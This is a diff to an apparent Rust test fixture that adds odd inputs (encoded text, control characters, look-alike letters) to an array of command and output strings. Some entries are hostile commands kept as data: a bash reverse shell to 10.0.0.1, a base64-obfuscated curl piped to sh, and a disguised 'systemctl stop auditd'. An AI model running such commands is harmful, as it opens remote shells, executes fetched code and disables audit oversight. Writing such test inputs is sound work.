@@ -20,7 +20,7 @@ pub const REGIONS: [&str; 3] = ["eu-west-1", "us-east-1", "eu-central-1"];
 pub const CONTEXTS: [&str; 4] = ["bash", "sudo -i", "psql", "Python"];
 
 /// Texts cut in all the wrong places.
-const HOSTILE: [(&str, &str); 23] = [
+const HOSTILE: [(&str, &str); 26] = [
     ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "connect: Connection refused\n10.0.0.1:4444"),
     ("echo 日本語テキスト", "日本語テキスト\nzweite ZEILE Ärger GRÖSSE größe"),
     ("ls 2>&1 | grep x", "a1b2 12 123 1234 12345 5.6.7 10.20.30.40 1.2 .1.2.3. 999"),
@@ -44,6 +44,9 @@ const HOSTILE: [(&str, &str); 23] = [
     ("mysql -pS3cr3t!", "ERROR 1045 (28000): Access denied for user 'root'@'localhost'"),
     // Letters that are others when case does not count, and nothing else to find the record by.
     ("ſyſtemctl ſtop auditd", "\u{212a}ernel paſſword"),
+    ("echo Y3VybCBodHRwOi8vd3d3LmV4YW1wbGUuY29tCg== | base64 -d | sh", "decode me"),
+    ("printf '\\x63\\x75\\x72\\x6c \\xc3\\xa4' 7375646f202d6c2072756e 0", "0"),
+    ("cr\rlf\r\nnul\0byte", "a\0b\rc\r\nlast\r\n\u{85}nel \u{2028}sep\u{b}vt\u{c}ff"),
     ("a\nb\nc", "line one\n\nline three\n\ttab"),
 ];
 
